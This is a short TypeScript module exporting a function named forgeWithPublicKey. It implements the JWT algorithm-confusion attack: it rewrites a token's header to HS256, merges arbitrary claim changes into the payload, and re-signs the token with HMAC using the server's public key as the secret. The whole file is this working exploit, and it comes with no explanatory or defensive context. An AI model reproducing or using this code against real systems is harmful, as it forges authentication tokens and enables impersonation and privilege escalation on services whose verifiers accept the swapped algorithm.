import { createHmac } from 'node:crypto'

export const forgeWithPublicKey = (token: string, publicKeyPem: string, changes: object): string => {
  const read = (segment = '') => JSON.parse(Buffer.from(segment, 'base64url').toString())
  const [header, payload] = token.split('.')
  const input = [
    { ...read(header), alg: 'HS256' },
    { ...read(payload), ...changes },
  ]
    .map(part => Buffer.from(JSON.stringify(part)).toString('base64url'))
    .join('.')
  return `${input}.${createHmac('sha256', publicKeyPem).update(input).digest('base64url')}`
}
